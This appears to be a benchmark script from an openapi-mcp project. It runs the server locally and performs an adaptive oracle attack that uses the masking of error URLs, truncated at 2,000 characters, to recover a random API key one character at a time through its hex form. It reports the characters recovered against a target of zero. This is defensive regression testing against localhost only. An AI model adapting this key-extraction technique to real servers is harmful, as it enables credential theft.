// Masking at a cut as an oracle (wave 3, issue 24, finding 1): `openapi-mcp serve` over HTTP as a child process,
// one tool whose API key (a random 16-character key, from a `${file:}` secret) goes in a header, and an upstream on
// 127.0.0.1 that answers 404, so every error result shows the request URL, masked and cut at 2,000 characters. The
// caller knows nothing of the key. It places a probe so that the URL is cut just after it and asks whether what it
// gets back is anything but the URL cut there: before the fix a probe that began a form of the key vanished, and
// the key's hex form let an attacker find the first two characters among 3,844 pairs and then each next one among
// a few hex digits. Run per key until the key is whole, the attack finds nothing more to try, or the budget is
// spent (a start not found among the pairs, the rest goes on random 4-character starts of the key as it is);
// reports the characters recovered, the calls spent, and how many answers depended on the key at all.
//
// Run: npm run build && node bench/mask-oracle.mjs
// Options: --keys N (3)  --budget N (5000 calls per key)  --cli FILE (dist/cli.js: another build to compare)

import { spawn } from "node:child_process";
import { randomInt } from "node:crypto";
import { chmodSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer, request } from "node:http";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { parseArgs } from "node:util";
import { printMachine, recordSummary } from "./report.mjs";

const root = new URL("..", import.meta.url).pathname;
const { values: options } = parseArgs({
  options: {
    keys: { type: "string", default: "3" },
    budget: { type: "string", default: "5000" },
    cli: { type: "string", default: `${root}dist/cli.js` },
  },
});
const BUDGET = Number(options.budget);
const ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
const SHOWN_URL_CHARS = 2_000;
/** Probes sent at once (within the default 8 in flight per caller). */
const PARALLEL = 8;
const HEADERS = { "content-type": "application/json", accept: "application/json, text/event-stream" };

const hex = (text) => Buffer.from(text).toString("hex");
const randomKey = () => Array.from({ length: 16 }, () => ALNUM[randomInt(ALNUM.length)]).join("");

function shuffled(items) {
  const copy = [...items];
  for (let i = copy.length - 1; i > 0; i--) {
    const j = randomInt(i + 1);
    [copy[i], copy[j]] = [copy[j], copy[i]];
  }
  return copy;
}

/** An upstream that answers 404 to everything. */
async function startUpstream() {
  const server = createServer((req, res) => {
    req.resume();
    req.on("end", () => res.writeHead(404, { "content-type": "text/plain" }).end());
  });
  await new Promise((done) => server.listen(0, "127.0.0.1", done));
  return { server, url: `http://127.0.0.1:${server.address().port}` };
}

async function startServer({ definition }) {
  const child = spawn(
    process.execPath,
    [resolve(options.cli), "serve", definition, "--transport", "http", "--port", "0"],
    {
      env: { ...process.env },
      stdio: ["ignore", "ignore", "pipe"],
    },
  );
  const port = await new Promise((done, fail) => {
    let stderr = "";
    child.stderr.on("data", (chunk) => {
      stderr += chunk;
      const found = /at http:\/\/127\.0\.0\.1:(\d+)\/mcp/.exec(stderr);
      if (found) done(Number(found[1]));
    });
    child.on("exit", () => fail(new Error(`the server exited:\n${stderr}`)));
  });
  return { child, port };
}

function post({ port, body, headers = {} }) {
  return new Promise((done, fail) => {
    const req = request(
      { host: "127.0.0.1", port, path: "/mcp", method: "POST", headers: { ...HEADERS, ...headers } },
      (res) => {
        const chunks = [];
        res.on("data", (chunk) => chunks.push(chunk));
        res.on("end", () => done({ headers: res.headers, text: Buffer.concat(chunks).toString("utf8") }));
      },
    );
    req.on("error", fail);
    req.end(body);
  });
}

/** The JSON-RPC message in a reply, whether it came as JSON or as one server-sent event. */
function message(reply) {
  const data = reply.text.startsWith("{") ? reply.text : /^data: (.*)$/m.exec(reply.text)?.[1];
  return JSON.parse(data ?? "{}");
}

async function openSession(port) {
  const init = await post({
    port,
    body: JSON.stringify({
      jsonrpc: "2.0",
      id: 1,
      method: "initialize",
      params: { protocolVersion: "2025-06-18", capabilities: {}, clientInfo: { name: "bench", version: "0" } },
    }),
  });
  const session = { "mcp-session-id": init.headers["mcp-session-id"], "mcp-protocol-version": "2025-06-18" };
  await post({ port, headers: session, body: JSON.stringify({ jsonrpc: "2.0", method: "notifications/initialized" }) });
  return session;
}

/** One key, one server: the adaptive attack until the key is whole, nothing is left to try, or the budget is out. */
async function attack({ upstream, dir }) {
  const key = randomKey();
  const keyFile = join(dir, `key-${key}`);
  writeFileSync(keyFile, `${key}\n`, { mode: 0o600 });
  chmodSync(keyFile, 0o600);
  const definition = join(dir, `keyed-${key}.actions.json`);
  writeFileSync(
    definition,
    JSON.stringify({
      name: "keyed",
      baseUrl: upstream.url,
      auth: { type: "apiKey", in: "header", name: "X-Api-Key", value: `\${file:${keyFile}}` },
      actions: [
        {
          name: "lookup",
          description: "Looks a word up.",
          method: "GET",
          path: "/lookup",
          inputSchema: { type: "object", properties: { q: { type: "string" } }, required: ["q"] },
        },
      ],
    }),
  );
  const { child, port } = await startServer({ definition });
  const session = await openSession(port);
  const base = `${upstream.url}/lookup?q=`;
  let calls = 0;
  let differed = 0;
  let id = 10;
  /** Whether the answer for this probe is anything but the URL cut just after it (what a key-blind server says). */
  const hit = async (probe) => {
    calls++;
    const q = `${"p".repeat(SHOWN_URL_CHARS - base.length - probe.length)}${probe}-tail`;
    const body = JSON.stringify({
      jsonrpc: "2.0",
      id: id++,
      method: "tools/call",
      params: { name: "lookup", arguments: { q } },
    });
    const text = message(await post({ port, headers: session, body })).result?.content?.[0]?.text ?? "";
    const shown = /^\[GET\] "(.*)": 404/.exec(text)?.[1];
    const differs = shown !== `${`${base}${q}`.slice(0, SHOWN_URL_CHARS)}…`;
    if (differs) differed++;
    return differs;
  };
  const started = performance.now();
  let known = "";
  // The first two characters: their hex form is the shortest probe (4 characters) the cut looked at.
  const pairs = shuffled(ALNUM).flatMap((a) => shuffled(ALNUM).map((b) => a + b));
  for (let i = 0; i < pairs.length && !known && calls < BUDGET; i += PARALLEL) {
    const batch = pairs.slice(i, Math.min(i + PARALLEL, i + BUDGET - calls));
    const found = await Promise.all(batch.map((pair) => hit(hex(pair))));
    known = batch[found.indexOf(true)] ?? "";
  }
  // No start found: the rest of the budget on 4-character starts of the key as it is (62^4 of them, so this could
  // only ever find one by luck; it counts answers that differ all the same).
  while (!known && calls < BUDGET) {
    const batch = Array.from({ length: Math.min(PARALLEL, BUDGET - calls) }, () =>
      Array.from({ length: 4 }, () => ALNUM[randomInt(ALNUM.length)]).join(""),
    );
    const found = await Promise.all(batch.map((start) => hit(start)));
    if (found.includes(true)) break;
  }
  // Each next character: its high hex digit, then its low one, each probe the known hex form and one digit more.
  while (known && known.length < 16 && calls < BUDGET) {
    const prefix = hex(known);
    let high;
    for (const digit of "34567") {
      if (calls >= BUDGET || high) break;
      if (await hit(prefix + digit)) high = digit;
    }
    if (!high) break;
    let next;
    for (const digit of "0123456789abcdef") {
      if (calls >= BUDGET || next) break;
      const char = Buffer.from(high + digit, "hex").toString("latin1");
      if (ALNUM.includes(char) && (await hit(prefix + high + digit))) next = char;
    }
    if (!next) break;
    known += next;
  }
  const seconds = (performance.now() - started) / 1000;
  child.kill("SIGTERM");
  const right = [...known].filter((char, i) => char === key[i]).length;
  return { key, known, right, calls, differed, seconds };
}

printMachine();
console.log(`\nserver: ${resolve(options.cli).replace(root, "")}; budget ${BUDGET} calls per key`);
const upstream = await startUpstream();
const dir = mkdtempSync(join(tmpdir(), "bench-mask-oracle-"));
const runs = [];
try {
  for (let i = 0; i < Number(options.keys); i++) {
    const run = await attack({ upstream, dir });
    runs.push(run);
    console.log(
      `key ${i + 1}: recovered ${run.right} of 16 characters in ${run.calls} calls (${run.seconds.toFixed(1)} s); ` +
        `${run.differed} answers differed from the URL cut at ${SHOWN_URL_CHARS}`,
    );
  }
} finally {
  upstream.server.close();
  rmSync(dir, { recursive: true, force: true });
}
const recovered = runs.map((r) => r.right);
recordSummary({
  bench: "mask-oracle",
  measure: `characters of a 16-character key recovered in ≤ ${BUDGET} calls`,
  value: `${Math.min(...recovered)}–${Math.max(...recovered)} (calls ${runs.map((r) => r.calls).join(", ")})`,
  target: "0",
  met: recovered.every((n) => n === 0),
});
